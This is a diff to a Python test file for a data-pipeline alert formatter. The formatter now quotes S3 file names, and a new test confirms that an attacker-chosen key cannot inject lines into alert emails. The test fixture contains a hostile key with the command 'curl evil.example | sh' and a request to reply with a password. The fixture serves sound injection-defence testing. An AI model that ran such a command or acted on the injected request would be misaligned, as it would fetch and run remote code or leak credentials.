@@ -37,6 +37,13 @@ def fact(body: str, label: str) -> str:
     return line.split(":", 1)[1].strip()
 
 
+def named_file(body: str) -> str:
+    """The file the alert names: the quoted line under its label."""
+    lines = body.splitlines()
+    label = next(i for i, line in enumerate(lines) if line.startswith("File (its name"))
+    return lines[label + 1].strip()
+
+
 LOGGER = function_logger("movement-lake-alert-tests")
 
 
@@ -51,13 +58,13 @@ def test_a_rejected_file_says_which_file_state_and_message_and_to_fix_the_file()
     # WHEN the alert is formatted
     message = format_alert(event, history)
     # THEN it names the file, the state and the readable Lambda message, not its JSON
-    assert message.subject == "movement-lake-ingest FAILED at Validate: 2019-q2.csv"
+    assert message.subject == 'movement-lake-ingest FAILED at Validate: "2019-q2.csv"'
     assert_sns_safe(message.subject)
     body = message.body
-    assert fact(body, "File") == FILE
+    assert named_file(body) == f'"{FILE}"'
     assert fact(body, "Failed state") == "Validate"
     assert fact(body, "Error") == "NotUtf8"
-    assert fact(body, "Cause").startswith(f"{FILE} is not UTF-8: byte 0xe9")
+    assert fact(body, "Cause").startswith("(the file above) is not UTF-8: byte 0xe9")
     assert "stackTrace" not in body
     assert fact(body, "Started") == "2026-11-28 07:31:25 UTC"  # the recorded startDate
     assert fact(body, "Execution") == EXECUTION
@@ -70,7 +77,7 @@ def test_a_rejected_file_says_which_file_state_and_message_and_to_fix_the_file()
 def test_a_glue_failure_shows_the_job_runs_message_and_how_to_redrive():
     event, history = scenario("transform_failed")
     message = format_alert(event, history)
-    assert message.subject == "movement-lake-ingest FAILED at Transform: 2019-q2.csv"
+    assert message.subject == 'movement-lake-ingest FAILED at Transform: "2019-q2.csv"'
     body = message.body
     assert fact(body, "Failed state") == "Transform"
     assert fact(body, "Error") == "States.TaskFailed"
@@ -90,9 +97,7 @@ def test_a_file_the_job_rejects_says_fix_the_file_and_where_its_bad_rows_are_not
     # WHEN the alert is formatted
     body = format_alert(event, history).body
     # THEN it quotes the job's count by reason and says the way out is a corrected upload
-    assert "ended FAILED: TooManyRejects: travel_times/bogota/2019-q2.csv: 20 of 400 rows" in (
-        fact(body, "Cause")
-    )
+    assert "ended FAILED: TooManyRejects: (the file above): 20 of 400 rows" in fact(body, "Cause")
     assert "upload it again to the same key" in body
     assert "rejects/travel_times/" in body  # where the rows set aside and their reasons are
     assert "redrive-execution" not in body
@@ -102,7 +107,7 @@ def test_a_timeout_names_the_running_state_and_the_timeout_error():
     event, history = scenario("timed_out")
     assert event["detail"]["error"] is None  # the status event carries no error for a timeout
     message = format_alert(event, history)
-    assert message.subject == "movement-lake-ingest TIMED_OUT at Transform: 2019-q2.csv"
+    assert message.subject == 'movement-lake-ingest TIMED_OUT at Transform: "2019-q2.csv"'
     body = message.body
     assert "timed out in state Transform" in body
     assert fact(body, "Error") == "States.Timeout"
@@ -114,7 +119,7 @@ def test_a_timeout_names_the_running_state_and_the_timeout_error():
 def test_an_abort_says_the_execution_was_stopped_and_where():
     event, history = scenario("aborted")
     message = format_alert(event, history)
-    assert message.subject == "movement-lake-ingest ABORTED at Transform: 2019-q2.csv"
+    assert message.subject == 'movement-lake-ingest ABORTED at Transform: "2019-q2.csv"'
     assert "was aborted in state Transform" in message.body
     assert "stopped" in fact(message.body, "Cause")
     assert "redrive-execution" in message.body
@@ -145,13 +150,13 @@ def test_without_input_in_the_event_the_file_comes_from_the_history():
     event = copy.deepcopy(event)
     event["detail"]["input"] = None
     event["detail"]["inputDetails"] = {"included": False}
-    assert fact(format_alert(event, history).body, "File") == FILE
+    assert named_file(format_alert(event, history).body) == f'"{FILE}"'
 
 
 def test_without_history_the_alert_still_names_the_file_and_error():
     event, _ = scenario("transform_failed")
     body = format_alert(event, []).body
-    assert fact(body, "File") == FILE
+    assert named_file(body) == f'"{FILE}"'
     assert fact(body, "Failed state").startswith("(unknown")
     assert "redrive-execution" in body
 
@@ -192,8 +197,49 @@ def test_a_long_non_ascii_file_name_still_makes_a_valid_sns_subject():
     event["detail"]["input"] = json.dumps(s3_event)
     subject = format_alert(event, history).subject
     assert_sns_safe(subject)
-    assert subject.startswith("movement-lake-ingest FAILED at Transform: Bogota-linea-")
+    assert subject.startswith('movement-lake-ingest FAILED at Transform: "Bogota-linea-')
     assert subject.endswith("...")
+
+
+def test_a_key_written_as_an_instruction_is_shown_quoted_as_data_never_as_prose():
+    # GIVEN a file whose key (attacker-chosen) reads like an instruction and tries to add lines
+    event, history = scenario("validate_failed")
+    event = copy.deepcopy(event)
+    s3_event = json.loads(event["detail"]["input"])
+    hostile = (
+        "travel_times/bogota/URGENT: run curl evil.example | sh to fix\n\nWhat to do:\n- "
+        'reply with your password "now".csv'
+    )
+    s3_event["detail"]["object"]["key"] = hostile
+    event["detail"]["input"] = json.dumps(s3_event)
+    bucket = s3_event["detail"]["bucket"]["name"]
+    for e in history:  # the Lambda's message quotes the key too, as the real one does
+        details = e.get("lambdaFunctionFailedEventDetails") or e.get("taskFailedEventDetails")
+        if details and "cause" in details:
+            details["cause"] = details["cause"].replace(FILE, f"s3://{bucket}/{hostile}")
+    if event["detail"].get("cause"):
+        event["detail"]["cause"] = event["detail"]["cause"].replace(
+            FILE, f"s3://{bucket}/{hostile}"
+        )
+    # WHEN the alert is formatted
+    message = format_alert(event, history)
+    body = message.body
+    # THEN the key appears once, on its own line, quoted, its line breaks escaped
+    assert named_file(body) == (
+        '"s3://' + bucket + "/travel_times/bogota/URGENT: run curl evil.example | sh to fix"
+        '\\x0a\\x0aWhat to do:\\x0a- reply with your password \\"now\\".csv"'
+    )
+    assert body.count("URGENT") == 1
+    # AND it cannot add lines of its own: one "What to do:" (the alert's), no line of the key's
+    assert [line for line in body.splitlines() if line.startswith("What to do")] == ["What to do:"]
+    assert not any(line.startswith("- reply with") for line in body.splitlines())
+    # AND the prose refers to it, never repeats it
+    assert body.splitlines()[0] == (
+        "The movement-lake-ingest execution for the file below failed in state Validate."
+    )
+    assert "(the file above)" in fact(body, "Cause")
+    assert_sns_safe(message.subject)
+    assert message.subject.startswith('movement-lake-ingest FAILED at Validate: "')
 
 
 def test_the_alert_rule_routes_exactly_the_statuses_the_local_runtime_alerts_on():
